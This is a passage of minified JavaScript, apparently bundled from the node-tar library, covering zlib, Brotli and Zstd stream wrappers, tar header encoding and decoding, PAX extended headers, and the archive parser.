7,BROTLI_DECODER_ERROR_ALLOC_BLOCK_TYPE_TREES:-30,BROTLI_DECODER_ERROR_UNREACHABLE:-31},sn));var rn=external_buffer_.Buffer.concat,zs=Object.getOwnPropertyDescriptor(external_buffer_.Buffer,"concat"),nn=s=>s,Bi=zs?.writable===!0||zs?.set!==void 0?s=>{external_buffer_.Buffer.concat=s?nn:rn}:s=>{},Tt=Symbol("_superWrite"),Gt=class extends Error{code;errno;constructor(t,e){super("zlib: "+t.message,{cause:t}),this.code=t.code,this.errno=t.errno,this.code||(this.code="ZLIB_ERROR"),this.message="zlib: "+t.message,Error.captureStackTrace(this,e??this.constructor)}get name(){return"ZlibError"}},Pi=Symbol("flushFlag"),re=class extends A{#t=!1;#i=!1;#s;#n;#r;#e;#o;get sawError(){return this.#t}get handle(){return this.#e}get flushFlag(){return this.#s}constructor(t,e){if(!t||typeof t!="object")throw new TypeError("invalid options for ZlibBase constructor");if(super(t),this.#s=t.flush??0,this.#n=t.finishFlush??0,this.#r=t.fullFlushFlag??0,typeof external_zlib_namespaceObject_0[e]!="function")throw new TypeError("Compression method not supported: "+e);try{this.#e=new external_zlib_namespaceObject_0[e](t)}catch(i){throw new Gt(i,this.constructor)}this.#o=i=>{this.#t||(this.#t=!0,this.close(),this.emit("error",i))},this.#e?.on("error",i=>this.#o(new Gt(i))),this.once("end",()=>this.close)}close(){this.#e&&(this.#e.close(),this.#e=void 0,this.emit("close"))}reset(){if(!this.#t)return external_assert_(this.#e,"zlib binding closed"),this.#e.reset?.()}flush(t){this.ended||(typeof t!="number"&&(t=this.#r),this.write(Object.assign(external_buffer_.Buffer.alloc(0),{[Pi]:t})))}end(t,e,i){return typeof t=="function"&&(i=t,e=void 0,t=void 0),typeof e=="function"&&(i=e,e=void 0),t&&(e?this.write(t,e):this.write(t)),this.flush(this.#n),this.#i=!0,super.end(i)}get ended(){return this.#i}[Tt](t){return super.write(t)}write(t,e,i){if(typeof e=="function"&&(i=e,e="utf8"),typeof t=="string"&&(t=external_buffer_.Buffer.from(t,e)),this.#t)return;external_assert_(this.#e,"zlib binding closed");let r=this.#e._handle,n=r.close;r.close=()=>{};let o=this.#e.close;this.#e.close=()=>{},Bi(!0);let h;try{let l=typeof t[Pi]=="number"?t[Pi]:this.#s;h=this.#e._processChunk(t,l),Bi(!1)}catch(l){Bi(!1),this.#o(new Gt(l,this.write))}finally{this.#e&&(this.#e._handle=r,r.close=n,this.#e.close=o,this.#e.removeAllListeners("error"))}this.#e&&this.#e.on("error",l=>this.#o(new Gt(l,this.write)));let a;if(h)if(Array.isArray(h)&&h.length>0){let l=h[0];a=this[Tt](external_buffer_.Buffer.from(l));for(let c=1;c<h.length;c++)a=this[Tt](h[c])}else a=this[Tt](external_buffer_.Buffer.from(h));return i&&i(),a}},Pe=class extends re{#t;#i;constructor(t,e){t=t||{},t.flush=t.flush||M.Z_NO_FLUSH,t.finishFlush=t.finishFlush||M.Z_FINISH,t.fullFlushFlag=M.Z_FULL_FLUSH,super(t,e),this.#t=t.level,this.#i=t.strategy}params(t,e){if(!this.sawError){if(!this.handle)throw new Error("cannot switch params when binding is closed");if(!this.handle.params)throw new Error("not supported in this implementation");if(this.#t!==t||this.#i!==e){this.flush(M.Z_SYNC_FLUSH),external_assert_(this.handle,"zlib binding closed");let i=this.handle.flush;this.handle.flush=(r,n)=>{typeof r=="function"&&(n=r,r=this.flushFlag),this.flush(r),n?.()};try{this.handle.params(t,e)}finally{this.handle.flush=i}this.handle&&(this.#t=t,this.#i=e)}}}};var ze=class extends Pe{#t;constructor(t){super(t,"Gzip"),this.#t=t&&!!t.portable}[Tt](t){return this.#t?(this.#t=!1,t[9]=255,super[Tt](t)):super[Tt](t)}};var Ue=class extends Pe{constructor(t){super(t,"Unzip")}},He=class extends re{constructor(t,e){t=t||{},t.flush=t.flush||M.BROTLI_OPERATION_PROCESS,t.finishFlush=t.finishFlush||M.BROTLI_OPERATION_FINISH,t.fullFlushFlag=M.BROTLI_OPERATION_FLUSH,super(t,e)}},We=class extends He{constructor(t){super(t,"BrotliCompress")}},Ge=class extends He{constructor(t){super(t,"BrotliDecompress")}},Ze=class extends re{constructor(t,e){t=t||{},t.flush=t.flush||M.ZSTD_e_continue,t.finishFlush=t.finishFlush||M.ZSTD_e_end,t.fullFlushFlag=M.ZSTD_e_flush,super(t,e)}},Ye=class extends Ze{constructor(t){super(t,"ZstdCompress")}},Ke=class extends Ze{constructor(t){super(t,"ZstdDecompress")}};var Us=(s,t)=>{if(Number.isSafeInteger(s))s<0?an(s,t):hn(s,t);else throw Error("cannot encode number outside of javascript safe integer range");return t},hn=(s,t)=>{t[0]=128;for(var e=t.length;e>1;e--)t[e-1]=s&255,s=Math.floor(s/256)},an=(s,t)=>{t[0]=255;var e=!1;s=s*-1;for(var i=t.length;i>1;i--){var r=s&255;s=Math.floor(s/256),e?t[i-1]=Ws(r):r===0?t[i-1]=0:(e=!0,t[i-1]=Gs(r))}},Hs=s=>{let t=s[0],e=t===128?cn(s.subarray(1,s.length)):t===255?ln(s):null;if(e===null)throw Error("invalid base256 encoding");if(!Number.isSafeInteger(e))throw Error("parsed number outside of javascript safe integer range");return e},ln=s=>{for(var t=s.length,e=0,i=!1,r=t-1;r>-1;r--){var n=Number(s[r]),o;i?o=Ws(n):n===0?o=n:(i=!0,o=Gs(n)),o!==0&&(e-=o*Math.pow(256,t-r-1))}return e},cn=s=>{for(var t=s.length,e=0,i=t-1;i>-1;i--){var r=Number(s[i]);r!==0&&(e+=r*Math.pow(256,t-i-1))}return e},Ws=s=>(255^s)&255,Gs=s=>(255^s)+1&255;var Hi={};Ur(Hi,{code:()=>Ve,isCode:()=>ne,isName:()=>dn,name:()=>oe,normalFsTypes:()=>Ui});var ne=s=>oe.has(s),dn=s=>Ve.has(s),Ui=new Set(["0","","1","2","3","4","5","6","7","D"]),oe=new Map([["0","File"],["","OldFile"],["1","Link"],["2","SymbolicLink"],["3","CharacterDevice"],["4","BlockDevice"],["5","Directory"],["6","FIFO"],["7","ContiguousFile"],["g","GlobalExtendedHeader"],["x","ExtendedHeader"],["A","SolarisACL"],["D","GNUDumpDir"],["I","Inode"],["K","NextFileHasLongLinkpath"],["L","NextFileHasLongPath"],["M","ContinuationFile"],["N","OldGnuLongPath"],["S","SparseFile"],["V","TapeVolumeHeader"],["X","OldExtendedHeader"]]),Ve=new Map(Array.from(oe).map(s=>[s[1],s[0]]));var un=s=>s===void 0||s<0?void 0:s,F=class{cksumValid=!1;needPax=!1;nullBlock=!1;block;path;mode;uid;gid;size;cksum;#t="Unsupported";linkpath;uname;gname;devmaj=0;devmin=0;atime;ctime;mtime;charset;comment;constructor(t,e=0,i,r){Buffer.isBuffer(t)?this.decode(t,e||0,i,r):t&&this.#i(t)}decode(t,e,i,r){if(e||(e=0),!t||!(t.length>=e+512))throw new Error("need 512 bytes for header");let n=xt(t,e+156,1),o=Ui.has(n),h=o?i:void 0,a=o?r:void 0;if(this.path=h?.path??xt(t,e,100),this.mode=h?.mode??a?.mode??lt(t,e+100,8),this.uid=h?.uid??a?.uid??lt(t,e+108,8),this.gid=h?.gid??a?.gid??lt(t,e+116,8),this.size=un(h?.size??a?.size??lt(t,e+124,12)),this.mtime=h?.mtime??a?.mtime??Wi(t,e+136,12),this.cksum=lt(t,e+148,12),a&&this.#i(a,!0),h&&this.#i(h),ne(n)&&(this.#t=n||"0"),this.#t==="0"&&this.path.slice(-1)==="/"&&(this.#t="5"),this.#t==="5"&&(this.size=0),this.linkpath=xt(t,e+157,100),t.subarray(e+257,e+265).toString()==="ustar\x0000")if(this.uname=h?.uname??a?.uname??xt(t,e+265,32),this.gname=h?.gname??a?.gname??xt(t,e+297,32),this.devmaj=h?.devmaj??a?.devmaj??lt(t,e+329,8)??0,this.devmin=h?.devmin??a?.devmin??lt(t,e+337,8)??0,t[e+475]!==0){let c=xt(t,e+345,155);this.path=c+"/"+this.path}else{let c=xt(t,e+345,130);c&&(this.path=c+"/"+this.path),this.atime=i?.atime??r?.atime??Wi(t,e+476,12),this.ctime=i?.ctime??r?.ctime??Wi(t,e+488,12)}let l=256;for(let c=e;c<e+148;c++)l+=t[c];for(let c=e+156;c<e+512;c++)l+=t[c];this.cksumValid=l===this.cksum,this.cksum===void 0&&l===256&&(this.nullBlock=!0)}#i(t,e=!1){Object.assign(this,Object.fromEntries(Object.entries(t).filter(([i,r])=>!(r==null||i==="size"&&Number(r)<0||i==="path"&&e||i==="linkpath"&&e||i==="global"))))}encode(t,e=0){if(t||(t=this.block=Buffer.alloc(512)),this.#t==="Unsupported"&&(this.#t="0"),!(t.length>=e+512))throw new Error("need 512 bytes for header");let i=this.ctime||this.atime?130:155,r=mn(this.path||"",i),n=r[0],o=r[1];this.needPax=!!r[2],this.needPax=Lt(t,e,100,n)||this.needPax,this.needPax=ct(t,e+100,8,this.mode)||this.needPax,this.needPax=ct(t,e+108,8,this.uid)||this.needPax,this.needPax=ct(t,e+116,8,this.gid)||this.needPax,this.needPax=ct(t,e+124,12,this.size)||this.needPax,this.needPax=Gi(t,e+136,12,this.mtime)||this.needPax,t[e+156]=Number(this.#t.codePointAt(0)),this.needPax=Lt(t,e+157,100,this.linkpath)||this.needPax,t.write("ustar\x0000",e+257,8),this.needPax=Lt(t,e+265,32,this.uname)||this.needPax,this.needPax=Lt(t,e+297,32,this.gname)||this.needPax,this.needPax=ct(t,e+329,8,this.devmaj)||this.needPax,this.needPax=ct(t,e+337,8,this.devmin)||this.needPax,this.needPax=Lt(t,e+345,i,o)||this.needPax,t[e+475]!==0?this.needPax=Lt(t,e+345,155,o)||this.needPax:(this.needPax=Lt(t,e+345,130,o)||this.needPax,this.needPax=Gi(t,e+476,12,this.atime)||this.needPax,this.needPax=Gi(t,e+488,12,this.ctime)||this.needPax);let h=256;for(let a=e;a<e+148;a++)h+=t[a];for(let a=e+156;a<e+512;a++)h+=t[a];return this.cksum=h,ct(t,e+148,8,this.cksum),this.cksumValid=!0,this.needPax}get type(){return this.#t==="Unsupported"?this.#t:oe.get(this.#t)}get typeKey(){return this.#t}set type(t){let e=String(Ve.get(t));if(ne(e)||e==="Unsupported")this.#t=e;else if(ne(t))this.#t=t;else throw new TypeError("invalid entry type: "+t)}},mn=(s,t)=>{let i=s,r="",n,o=external_node_path_namespaceObject.posix.parse(s).root||".";if(Buffer.byteLength(i)<100)n=[i,r,!1];else{r=external_node_path_namespaceObject.posix.dirname(i),i=external_node_path_namespaceObject.posix.basename(i);do Buffer.byteLength(i)<=100&&Buffer.byteLength(r)<=t?n=[i,r,!1]:Buffer.byteLength(i)>100&&Buffer.byteLength(r)<=t?n=[i.slice(0,99),r,!0]:(i=external_node_path_namespaceObject.posix.join(external_node_path_namespaceObject.posix.basename(r),i),r=external_node_path_namespaceObject.posix.dirname(r));while(r!==o&&n===void 0);n||(n=[s.slice(0,99),"",!0])}return n},xt=(s,t,e)=>s.subarray(t,t+e).toString("utf8").replace(/\0.*/,""),Wi=(s,t,e)=>pn(lt(s,t,e)),pn=s=>s===void 0?void 0:new Date(s*1e3),lt=(s,t,e)=>Number(s[t])&128?Hs(s.subarray(t,t+e)):wn(s,t,e),En=s=>isNaN(s)?void 0:s,wn=(s,t,e)=>En(parseInt(s.subarray(t,t+e).toString("utf8").replace(/\0.*$/,"").trim(),8)),Sn={12:8589934591,8:2097151},ct=(s,t,e,i)=>i===void 0?!1:i>Sn[e]||i<0?(Us(i,s.subarray(t,t+e)),!0):(yn(s,t,e,i),!1),yn=(s,t,e,i)=>s.write(Rn(i,e),t,e,"ascii"),Rn=(s,t)=>gn(Math.floor(s).toString(8),t),gn=(s,t)=>(s.length===t-1?s:new Array(t-s.length-1).join("0")+s+" ")+"\0",Gi=(s,t,e,i)=>i===void 0?!1:ct(s,t,e,i.getTime()/1e3),bn=new Array(156).join("\0"),Lt=(s,t,e,i)=>i===void 0?!1:(s.write(i+bn,t,e,"utf8"),i.length!==Buffer.byteLength(i)||i.length>e);var ft=class s{atime;mtime;ctime;charset;comment;gid;uid;gname;uname;linkpath;dev;ino;nlink;path;size;mode;global;constructor(t,e=!1){this.atime=t.atime,this.charset=t.charset,this.comment=t.comment,this.ctime=t.ctime,this.dev=t.dev,this.gid=t.gid,this.global=e,this.gname=t.gname,this.ino=t.ino,this.linkpath=t.linkpath,this.mtime=t.mtime,this.nlink=t.nlink,this.path=t.path,this.size=t.size,this.uid=t.uid,this.uname=t.uname}encode(){let t=this.encodeBody();if(t==="")return Buffer.allocUnsafe(0);let e=Buffer.byteLength(t),i=512*Math.ceil(1+e/512),r=Buffer.allocUnsafe(i);for(let n=0;n<512;n++)r[n]=0;new F({path:("PaxHeader/"+(0,external_node_path_namespaceObject.basename)(this.path??"")).slice(0,99),mode:this.mode||420,uid:this.uid,gid:this.gid,size:e,mtime:this.mtime,type:this.global?"GlobalExtendedHeader":"ExtendedHeader",linkpath:"",uname:this.uname||"",gname:this.gname||"",devmaj:0,devmin:0,atime:this.atime,ctime:this.ctime}).encode(r),r.write(t,512,e,"utf8");for(let n=e+512;n<r.length;n++)r[n]=0;return r}encodeBody(){return this.encodeField("path")+this.encodeField("ctime")+this.encodeField("atime")+this.encodeField("dev")+this.encodeField("ino")+this.encodeField("nlink")+this.encodeField("charset")+this.encodeField("comment")+this.encodeField("gid")+this.encodeField("gname")+this.encodeField("linkpath")+this.encodeField("mtime")+this.encodeField("size")+this.encodeField("uid")+this.encodeField("uname")}encodeField(t){if(this[t]===void 0)return"";let e=this[t],i=e instanceof Date?e.getTime()/1e3:e,r=" "+(t==="dev"||t==="ino"||t==="nlink"?"SCHILY.":"")+t+"="+i+`
+`,n=Buffer.byteLength(r),o=Math.floor(Math.log(n)/Math.log(10))+1;return n+o>=Math.pow(10,o)&&(o+=1),o+n+r}static parse(t,e,i=!1){return new s(On(Tn(t),e),i)}},On=(s,t)=>t?Object.assign({},t,s):s,Tn=s=>s.replace(/\n$/,"").split(`
+`).reduce(xn,Object.create(null)),xn=(s,t)=>{let e=parseInt(t,10);if(e!==Buffer.byteLength(t)+1)return s;t=t.slice((e+" ").length);let i=t.split("="),r=i.shift();if(!r)return s;let n=r.replace(/^SCHILY\.(dev|ino|nlink)/,"$1"),o=i.join("=").replace(/\0.*/,"");switch(n){case"path":case"linkpath":case"type":case"charset":case"comment":case"gname":case"uname":s[n]=o;break;case"ctime":case"atime":case"mtime":s[n]=new Date(Number(o)*1e3);break;case"size":let h=+o;h>=0&&(s[n]=h);break;case"gid":case"uid":case"dev":case"ino":case"nlink":case"mode":s[n]=+o;break}return s};var Ln=process.env.TESTING_TAR_FAKE_PLATFORM||process.platform,f=Ln!=="win32"?s=>String(s):s=>String(s).replaceAll(/\\/g,"/");var $e=class extends A{extended;globalExtended;header;startBlockSize;blockRemain;remain;type;meta=!1;ignore=!1;path;mode;uid;gid;uname;gname;size=0;mtime;atime;ctime;linkpath;dev;ino;nlink;invalid=!1;absolute;unsupported=!1;constructor(t,e,i){switch(super({}),this.pause(),this.extended=e,this.globalExtended=i,this.header=t,this.remain=t.size??0,this.startBlockSize=512*Math.ceil(this.remain/512),this.blockRemain=this.startBlockSize,this.type=t.type,this.type){case"File":case"OldFile":case"Link":case"SymbolicLink":case"CharacterDevice":case"BlockDevice":case"Directory":case"FIFO":case"ContiguousFile":case"GNUDumpDir":break;case"NextFileHasLongLinkpath":case"NextFileHasLongPath":case"OldGnuLongPath":case"GlobalExtendedHeader":case"ExtendedHeader":case"OldExtendedHeader":this.meta=!0;break;default:this.ignore=!0}if(!t.path)throw new Error("no path provided for tar.ReadEntry");this.path=f(t.path),this.mode=t.mode,this.mode&&(this.mode=this.mode&4095),this.uid=t.uid,this.gid=t.gid,this.uname=t.uname,this.gname=t.gname,this.size=this.remain,this.mtime=t.mtime,this.atime=t.atime,this.ctime=t.ctime,this.linkpath=t.linkpath?f(t.linkpath):void 0,this.uname=t.uname,this.gname=t.gname,e&&this.#t(e),i&&this.#t(i,!0)}write(t){let e=t.length;if(e>this.blockRemain)throw new Error("writing more to entry than is appropriate");let i=this.remain,r=this.blockRemain;return this.remain=Math.max(0,i-e),this.blockRemain=Math.max(0,r-e),this.ignore?!0:i>=e?super.write(t):super.write(t.subarray(0,i))}#t(t,e=!1){t.path&&(t.path=f(t.path)),t.linkpath&&(t.linkpath=f(t.linkpath)),Object.assign(this,Object.fromEntries(Object.entries(t).filter(([i,r])=>!(r==null||i==="path"&&e))))}};var Dt=(s,t,e,i={})=>{s.file&&(i.file=s.file),s.cwd&&(i.cwd=s.cwd),i.code=e instanceof Error&&e.code||t,i.tarCode=t,!s.strict&&i.recoverable!==!1?(e instanceof Error&&(i=Object.assign(e,i),e=e.message),s.emit("warn",t,e,i)):e instanceof Error?s.emit("error",Object.assign(e,i)):s.emit("error",Object.assign(new Error(`${t}: ${e}`),i))};var Nn=1024*1024,Xi=Buffer.from([31,139]),qi=Buffer.from([40,181,47,253]),An=Math.max(Xi.length,qi.length),B=Symbol("state"),Nt=Symbol("writeEntry"),it=Symbol("readEntry"),Zi=Symbol("nextEntry"),Zs=Symbol("processEntry"),V=Symbol("extendedHeader"),he=Symbol("globalExtendedHeader"),dt=Symbol("meta"),Ys=Symbol("emitMeta"),p=Symbol("buffer"),st=Symbol("queue"),ut=Symbol("ended"),Yi=Symbol("emittedEnd"),At=Symbol("emit"),w=Symbol("unzip"),Xe=Symbol("consumeChunk"),qe=Symbol("consumeChunkSub"),Ki=Symbol("consumeBody"),Ks=Symbol("consumeMeta"),Vs=Symbol("consumeHeader"),ae=Symbol("consuming"),Vi=Symbol("bufferConcat"),Qe=Symbol("maybeEnd"),Yt=Symbol("writing"),$=Symbol("aborted"),Je=Symbol("onDone"),It=Symbol("sawValidEntry"),je=Symbol("sawNullBlock"),ti=Symbol("sawEOF"),$s=Symbol("closeStream"),In=1e3,le=Symbol("compressedBytesRead"),$i=Symbol("decompressedBytesRead"),Xs=Symbol("checkDecompressionRatio"),Cn=()=>!0,rt=class extends external_events_.EventEmitter{file;strict;maxMetaEntrySize;filter;brotli;zstd;maxDecompressionRatio;writable=!0;readable=!1;[st]=[];[p];[it];[Nt];[B]="begin";[dt]="";[V];[he];[ut]=!1;[w];[$]=!1;[It];[je]=!1;[ti]=!1;[Yt]=!1;[ae]=!1;[Yi]=!1;[le]=0;[$i]=0;constructor(t={}){super(),this.file=t.file||"",this.on(Je,()=>{(this[B]==="begin"||this[It]===!1)&&this.warn("TAR_BAD_ARCHIVE","Unrecognized archive format")}),t.ondone?this.on(Je,t.ondone):this.on(Je,()=>{this.emit("prefinish"),this.emit("finish"),this.emit("end")}),this.strict=!!t.strict,this.maxDecompressionRatio=typeof t.maxDecompressionRatio=="number"?t.maxDecompressionRatio:In,this.maxMetaEntrySize=t.maxMetaEntrySize||Nn,this.filter=typeof t.filter=="function"?t.filter:Cn;let e=t.file&&(t.file.endsWith(".tar.br")||t.file.endsWith(".tbr"));this.brotli=!(t.gzip||t.zstd)&&t.brotli!==void 0?t.brotli:e?void 0:!1;let i=t.file&&(t.file.endsWith(".tar.zst")||t.file.endsWith(".tzst"));this.zstd=!(t.gzip||t.brotli)&&t.zstd!==void 0?t.zstd:i?!0:void 0,this.on("end",()=>this[$s]()),typeof t.onwarn=="function"&&this.on("warn",t.onwarn),typeof t.onReadEntry=="function"&&this.on("entry",t.onReadEntry)}warn(t,e,i={}){Dt(this,t,e,i)}[Vs](t,e){this[It]===void 0&&(this[It]=!1);let i;try{i=new F(t,e,this[V],this[he])}catch(r){return this.warn("TAR_ENTRY_INVALID",r)}if(i.nullBlock)this[je]?(this[ti]=!0,this[B]==="begin"&&(this[B]="header"),this[At]("eof")):(this[je]=!0,this[At]("nullBlock"));else if(this[je]=!1,!i.cksumValid)this.warn("TAR_ENTRY_INVALID","checksum failure",{header:i});else if(!i.path)this.warn("TAR_ENTRY_INVALID","path is required",{header:i});else{let r=i.type;if(/^(Symbolic)?Link$/.test(r)&&!i.linkpath)this.warn("TAR_ENTRY_INVALID","linkpath required",{header:i});else if(!/^(Symbolic)?Link$/.test(r)&&!/^(Global)?ExtendedHeader$/.test(r)&&i.linkpath)this.warn("TAR_ENTRY_INVALID","linkpath forbidden",{header:i});else{let n=this[Nt]=new $e(i,this[V],this[he]);if(!this[It])if(n.remain){let o=()=>{n.invalid||(this[It]=!0)};n.on("end",o)}else this[It]=!0;n.meta?n.size>this.maxMetaEntrySize?(n.ignore=!0,this[At]("ignoredEntry",n),this[B]="ignore",n.resume()):n.size>0&&(this[dt]="",n.on("data",o=>this[dt]+=o),this[B]="meta"):(this[V]=void 0,n.ignore=n.ignore||!this.filter(n.path,n),n.ignore?(this[At]("ignoredEntry",n),this[B]=n.remain?"ignore":"header",n.resume()):(n.remain?this[B]="body":(this[B]="header",n.end()),this[it]?this[st].push(n):(this[st].push(n),this[Zi]())))}}}[$s](){queueMicrotask(()=>this.emit("close"))}[Zs](t){let e=!0;if(!t)this[it]=void 0,e=!1;else if(Array.isArray(t)){let[i,...r]=t;this.emit(i,...r)}else this[it]=t,this.emit("entry",t),t.emittedEnd||(t.on("end",()=>this[Zi]()),e=!1);return e}[Zi](){do;while(this[Zs](this[st].shift()));if(this[st].length===0){let t=this[it];!t||t.flowing||t.size===t.remain?this[Yt]||this.emit("drain"):t.once("drain",()=>this.emit("drain"))}}[Ki](t,e){let i=this[Nt];if(!i)throw new Error("attempt to consume body without entry??");let r=i.blockRemain??0,n=r>=t.length&&e===0?t:t.subarray(e,e+r);return i.write(n),i.blockRemain||(this[B]="header",this[Nt]=void 0,i.end()),n.length}[Ks](t,e){let i=this[Nt],r=this[Ki](t,e);return!this[Nt]&&i&&this[Ys](i),r}[At](t,e,i){this[st].length===0&&!this[it]?this.emit(t,e,i):this[st].push([t,e,i])}[Ys](t){switch(this[At]("meta",this[dt]),t.type){case"ExtendedHeader":case"OldExtendedHeader":this[V]=ft.parse(this[dt],this[V],!1);break;case"GlobalExtendedHeader":this[he]=ft.parse(this[dt],this[he],!0);break;case"NextFileHasLongPath":case"OldGnuLongPath":{let e=this[V]??Object.create(null);this[V]=e,e.path=this[dt].replace(/\0.*/,"");break}case"NextFileHasLongLinkpath":{let e=this[V]||Object.create(null);this[V]=e,e.linkpath=this[dt].replace(/\0.*/,"");break}default:throw new Error("unknown meta: "+t.type)}}abort(t){if(!this[$]){if(this[w]){let e=this[w];e.write=()=>!0,e.end=()=>e,e.emit=()=>!1,e.destroy?.()}this[$]=!0,this.emit("abort",t),this.warn("TAR_ABORT",t,{recoverable:!1})}}[Xs](t){this[$i]+=t.length;let e=this[$i]/this[le];return e>this.maxDecompressionRatio?(this.abort(new Error(`max decompression ratio exceeded: ${e.toFixed(2)} > ${this.maxDecompressionRatio}`)),!1):!0}write(t,e,i){if(typeof e=="function"&&(i=e,e=void 0),typeof t=="string"&&(t=Buffer.from(t,typeof e=="string"?e:"utf8")),this[$])return i?.(),!1;if((this[w]===void 0||this.brotli===void 0&&this[w]===!1)&&t){if(this[p]&&(t=Buffer.concat([this[p],t]),this[p]=void 0),t.length<An)return this[p]=t,i?.(),!0;for(let a=0;this[w]===void 0&&a<Xi.length;a++)t[a]!==Xi[a]&&(this[w]=!1);let o=!1;if(this[w]===!1&&this.zstd!==!1){o=!0;for(let a=0;a<qi.length;a++)if(t[a]!==qi[a]){o=!1;break}}let h=this.brotli===void 0&&!o;if(this[w]===!1&&h)if(t.length<512)if(this[ut])this.brotli=!0;else return this[p]=t,i?.(),!0;else try{new F(t.subarray(0,512)),this.brotli=!1}catch{this.brotli=!0}if(this[w]===void 0||this[w]===!1&&(this.brotli||o)){let a=this[ut];this[ut]=!1,this[w]=this[w]===void 0?new Ue({}):o?new Ke({}):new Ge({}),this[w].on("data",c=>{this[Xs](c)&&this[Xe](c)}),this[w].on("error",c=>{this[$]||this.abort(c)}),this[w].on("end",()=>{this[ut]=!0,this[Xe]()}),this[Yt]=!0,this[le]+=t.length;let l=!!this[w][a?"end":"write"](t);return this[Yt]=!1,i?.(),l}}this[Yt]=!0,this[w]?(this[le]+=t.length,this[w].write(t)):this[Xe](t),this[Yt]=!1;let n=this[st].length>0?!1:this[it]?this[it].flowing:!0;return!n&&this[st].length===0&&this[it]?.once("drain",()=>this.emit("drain")),i?.(),n}[Vi](t){t&&!this[$]&&(this[p]=this[p]?Buffer.concat([this[p],t]):t)}[Qe](){if(this[ut]&&!this[Yi]&&!this[$]&&!this[ae]){this[Yi]=!0;let t=this[Nt];if(t?.blockRemain){let e=this[p]?this[p].length:0;this.warn("TAR_BAD_ARCHIVE",`Truncated input (needed ${t.blockRemain} more bytes, only ${e} available)`,{entry:t}),this[p]&&t.write(this[p]),t.end()}this[At](Je)}}[Xe](t){if(this[ae]&&t)this[Vi](t);else if(!t&&!this[p])this[Qe]();else if(t){if(this[ae]=!0,this[p]){this[Vi](t);let e=this[p];this[p]=void 0,this[qe](e)}else this[qe](t);for(;this[p]&&this[p]?.length>=512&&!this[$]&&!this[ti];){let e=this[p];this[p]=void 0,this[qe](e)}this[ae]=!1}(!this[p]||this[ut])&&this[Qe]()}[qe](t){let e=0,i=t.length;for(;e+512<=i&&!this[$]&&!this[ti];)switch(this[B]){case"begin":case"header":this[Vs](t,e),e+=512;break;case"ignore":case"body":e+=this[Ki](t,e);break;case"meta":e+=this[Ks](t,e);break;default:throw new Error("invalid state: "+this[B])}e<i&&(this[p]=this[p]?Buffer.concat([t.subarray(e),this[p]]):t.subarray(e))}end(t,e,i){return typeof t=="function"&&(i=t,e=void 0,t=void 0),typeof e=="function"&&(i=e,e=void 0),typeof t=="string"&&(t=Buffer.from(t,e)),i&&this.once("finish",i),this[$]||(this[w]?(t&&(this[le]+=t.length,this[w].write(t)),this[w].end()):(this[ut]=!0,(this.brotli===void 0||this.zstd===void 0)&&(t=t||Buffer.alloc(0)),t&&this.write(t),this[Qe]())),this}};var mt=s=>{let t=s.length-1,e=-1;for(;t>-1&&s.charAt(t)==="/";)e=t,t--;return e===-1?s:s.slice(0,e)};var vn=s=>{let t=s.onReadEntry;s.onReadEntry=t?e=>{t(e),e.resume()}:e=>e.resume()},Qi=(s,t)=>{let e=new Map(t.map(o=>[mt(o),!0])),i=s.filter,r=100,n=(o,h="",a=0)=>{if(a>=r)return e.set(o,!1),!1;let l=h||(0,external_path_namespaceObject.parse)(o).root||".",c;if(o===l)c=!1;else{let d=e.get(o);c=d!==void 0?d:n((0,external_path_namespaceObject.dirname)(o),l,a+1)}return e.set(o,c),c};s.filter=i?(o,h)=>i(o,h)&&n(mt(o)):o=>n(mt(o))},Mn=s=>{let t=new rt(s),e=s.file,i;try{i=external_node_fs_namespaceObject.openSync(e,"r");let r=external_node_fs_namespaceObject.fstatSync(i),n=s.maxReadSize||16*1024*1024;if(r.size<n){let o=Buffer.allocUnsafe(r.size),h=external_node_fs_namespaceObject.readSync(i,o,0,r.size,0);t.end(h===o.byteLength?o:o.subarray(0,h))}else{let o=0,h=Buffer.allocUnsafe(n);for(;o<r.size;){let a=external_node_fs_namespaceObject.readSync(i,h,0,n,o);if(a===0)break;o+=a,t.write(h.subarray(0,a))}t.end()}}finally{if(typeof i=="number")try{external_node_fs_namespaceObject.closeSync(i)}catch{}}},Bn=(s,t)=>{let e=new rt(s),i=s.maxReadSize||16*1024*1024,r=s.file;return new Promise((o,h)=>{e.on("error",h),e.on("end",o),external_node_fs_namespaceObject.stat(r,(a,l)=>{if(a)h(a);else{let c=new _t(r,{readSize:i,size:l.size});c.on("error",h),c.pipe(e)}})})},Ct=K(Mn,Bn,s=>new rt(s),s=>new rt(s),(s,t)=>{t?.length&&Qi(s,t),s.noResume||vn(s)});var Ji=(s,t,e)=>(s&=4095,e&&(s=(s|384)&-19),t&&(s&256&&(s|=64),s&32&&(s|=8),s&4&&(s|=1)),s);var{isAbsolute:zn,parse:qs}=external_node_path_namespaceObject.win32,ce=s=>{let t="",e=qs(s);for(;zn(s)||e.root;){let i=s.charAt(0)==="/"&&s.slice(0,4)!=="//?/"?"/":e.root;s=s.slice(i.length),t+=i,e=qs(s)}return[t,s]};var ei=["|","<",">","?",":"],ji=ei.map(s=>String.fromCodePoint(61440+Number(s.codePointAt(0)))),Un=new Map(ei.map((s,t)=>[s,ji[t]])),Hn=new Map(ji.map((s,t)=>[s,ei[t]])),ts=s=>ei.reduce((t,e)=>t.split(e).join(Un.get(e)),s),Qs=s=>ji.reduce((t,e)=>t.split(e).join(Hn.get(e)),s);var rr=(s,t)=>t?(s=f(s).replace(/^\.(\/|$)/,""),mt(t)+"/"+s):f(s),Wn=16*1024*1024,index_min_tr=Symbol("process"),er=Symbol("file"),ir=Symbol("directory"),is=Symbol("symlink"),sr=Symbol("hardlink"),fe=Symbol("header"),ii=Symbol("read"),ss=Symbol("lstat"),si=Symbol("onlstat"),rs=Symbol("onread"),ns=Symbol("onreadlink"),os=Symbol("openfile"),hs=Symbol("onopenfile"),pt=Symbol("close"),ri=Symbol("mode"),as=Symbol("awaitDrain"),es=Symbol("ondrain"),q=Symbol("prefix"),de=class extends A{path;portable;myuid=process.getuid&&process.getuid()||0;myuser=process.env.USER||"";maxReadSize;linkCache;statCache;preservePaths;cwd;strict;mtime;noPax;noMtime;prefix;fd;blockLen=0;blockRemain=0;buf;pos=0;remain=0;length=0;offset=0;win32;absolute;header;type;linkpath;stat;onWriteEntry;#t=!1;constructor(t,e={}){let i=se(e);super(),this.path=f(t),this.portable=!!i.portable,this.maxReadSize=i.maxReadSize||Wn,this.linkCache=i.linkCache||new Map,this.statCache=i.statCache||new 